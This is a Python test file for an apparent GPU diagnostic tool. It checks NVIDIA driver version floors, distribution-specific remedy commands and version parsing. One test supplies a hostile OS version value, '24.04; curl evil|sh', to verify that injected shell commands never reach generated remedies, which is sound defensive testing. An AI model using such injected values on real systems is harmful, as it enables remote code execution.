"""Family driver: the driver version floor, its CUDA version, and one driver everywhere."""

from __future__ import annotations

from blackwell_doctor.facts.document import CpuFacts, Facts, NvmlFacts, OsRelease, Unavailable
from blackwell_doctor.report.results import Status
from tests.factsutil import load, replace, result, status


def test_driver_580_fails_on_sm120_with_install_commands_for_the_distribution() -> None:
    r = result(load("sm120-driver580"), "driver.version")
    assert r.status is Status.FAIL
    assert "580.95.05" in r.summary
    assert r.remedy is not None
    joined = "\n".join(r.remedy.commands)
    assert "repos/ubuntu2404/x86_64/cuda-keyring" in joined
    assert "nvidia-open" in joined


def test_driver_remedy_on_dgx_spark_is_a_dgx_os_update_not_the_cuda_repository() -> None:
    r = result(load("dgx-spark-gb10"), "driver.version")
    assert r.remedy is not None
    assert "DGX OS" in r.remedy.summary
    assert not any("cuda-keyring" in c for c in r.remedy.commands)


def _sm120_with(**platform: object) -> Facts:
    facts = load("sm120-driver580")
    changed: Facts = replace(facts, platform=replace(facts.platform, **platform))
    return changed


def test_driver_remedy_on_an_arm64_server_uses_the_sbsa_repository() -> None:
    r = result(_sm120_with(machine="aarch64"), "driver.version")
    assert r.remedy is not None
    assert any("repos/ubuntu2404/sbsa/cuda-keyring" in c for c in r.remedy.commands)


def test_driver_remedy_without_machine_treats_ampere_cpus_as_arm64() -> None:
    facts = _sm120_with(
        machine=Unavailable("not-collected"),
        cpu=CpuFacts(vendor="Ampere", model="Ampere Altra", logical_cpus=80),
    )
    r = result(facts, "driver.version")
    assert r.remedy is not None
    assert any("/sbsa/" in c for c in r.remedy.commands)


def test_driver_remedy_on_fedora_41_uses_dnf5_syntax() -> None:
    facts = _sm120_with(
        machine="x86_64", os_release=OsRelease(id="fedora", version_id="41", pretty_name="F41")
    )
    r = result(facts, "driver.version")
    assert r.remedy is not None
    assert any("addrepo --from-repofile=" in c for c in r.remedy.commands)


def test_a_hostile_version_id_never_reaches_a_command() -> None:
    facts = _sm120_with(
        os_release=OsRelease(id="ubuntu", version_id="24.04; curl evil|sh", pretty_name="x")
    )
    r = result(facts, "driver.version")
    assert r.remedy is not None
    assert not any("curl" in c for c in r.remedy.commands)


def test_a_version_id_with_a_trailing_newline_never_reaches_a_command() -> None:
    """Issue 32: "24.04\n" passed the plain-version check ("$" matches before a final
    newline) and split the wget line of the remedy in two where it is pasted."""
    facts = _sm120_with(os_release=OsRelease(id="ubuntu", version_id="24.04\n", pretty_name="x"))
    r = result(facts, "driver.version")
    assert r.remedy is not None
    assert not any("\n" in c for c in r.remedy.commands), r.remedy.commands
    assert not any("cuda-keyring" in c for c in r.remedy.commands)


def test_driver_remedy_under_wsl_is_the_windows_driver_not_a_linux_package() -> None:
    r = result(load("rtx5090-wsl2"), "driver.version")
    assert r.remedy is not None
    assert "Windows driver" in r.remedy.summary
    assert not any("apt-get" in c for c in r.remedy.commands)


def test_driver_595_passes_on_sm120() -> None:
    facts = load("sm120-driver580")
    nvml = facts.nvml
    assert isinstance(nvml, NvmlFacts)
    facts = replace(facts, nvml=replace(nvml, driver_version="595.45.04"))
    facts = replace(facts, platform=replace(facts.platform, nvidia_kernel_module="595.45.04"))
    assert status(facts, "driver.version") is Status.PASS


def test_driver_version_unreadable_is_not_evaluated_never_a_pass() -> None:
    facts = load("sm120-driver580")
    nvml = facts.nvml
    assert isinstance(nvml, NvmlFacts)
    facts = replace(
        facts,
        nvml=replace(nvml, driver_version=Unavailable("not-supported")),
        platform=replace(facts.platform, nvidia_kernel_module=Unavailable("not-found:/proc/x")),
    )
    r = result(facts, "driver.version")
    assert r.status is Status.ERROR
    assert r.summary.startswith("not evaluated:")


def test_kernel_module_and_userspace_driver_mismatch_fails() -> None:
    facts = load("sm120-driver580")
    facts = replace(facts, platform=replace(facts.platform, nvidia_kernel_module="570.86.10"))
    r = result(facts, "driver.consistency")
    assert r.status is Status.FAIL
    assert "570.86.10" in r.summary
    assert "580.95.05" in r.summary


def test_nvml_library_mismatch_is_explained_even_though_no_gpu_answers() -> None:
    facts = load("sm120-driver580")
    facts = replace(facts, nvml=Unavailable("nvml-driver-library-mismatch"))
    assert status(facts, "driver.consistency") is Status.FAIL
    present = result(facts, "gpu.present")
    assert present.status is Status.FAIL  # the GPU is on PCI, the driver does not answer
    assert present.remedy is not None
    assert "Reboot" in present.remedy.summary


def test_libcuda_from_another_driver_warns() -> None:
    facts = load("rtxpro6000x4-threadripper-iommu")
    cuda = facts.cuda
    assert not isinstance(cuda, Unavailable)
    facts = replace(facts, cuda=replace(cuda, driver_version="12.8"))
    r = result(facts, "driver.consistency")
    assert r.status is Status.WARN
    assert "12.8" in r.summary


def test_driver_floor_with_an_unknown_cc_is_not_evaluated_never_skipped() -> None:
    facts = load("sm120-driver580")
    nvml, cuda = facts.nvml, facts.cuda
    assert isinstance(nvml, NvmlFacts)
    assert not isinstance(cuda, Unavailable)
    facts = replace(
        facts,
        nvml=replace(
            nvml, gpus=[replace(g, compute_capability=Unavailable("x")) for g in nvml.gpus]
        ),
        cuda=replace(
            cuda,
            devices=[replace(d, compute_capability=Unavailable("x")) for d in cuda.devices],
        ),
    )
    assert status(facts, "driver.version") is Status.ERROR
    assert status(facts, "driver.cuda_version") is Status.ERROR


def test_versions_compare_as_packaging_compares_them() -> None:
    # Release numbers alone are compared without packaging (start-up); every form must
    # order as packaging's Version orders it, and what it refuses stays unreadable.
    from packaging.version import InvalidVersion, Version

    from blackwell_doctor.rules import view

    texts = [
        "580.65.06", "580.65.6", "580", "580.0", "580.0.0", "13.0", "13", "12.8", "12.9.1",
        "0", "0.0", "", "575.57.08", "590.01", "00.1", "12.10", "12.1", "1.2.3rc1",
        "v580.65", "580.65.06+local", "580..1", ".1", "1.", "1e3", "\u0661\u0662.\u0663",
        " 580.1",
    ]  # fmt: skip
    floors = ["580.65.06", "13.0", "12.8", "575", "0", "590.01", "1.2.3rc1"]
    for text in texts:
        try:
            expected: Version | None = Version(text)
        except InvalidVersion:
            expected = None
        parsed = view.parse_version(text)
        assert (parsed is None) is (expected is None), text
        for floor in floors:
            if parsed is not None and expected is not None:
                assert view.at_least(parsed, floor) is (expected >= Version(floor)), (text, floor)
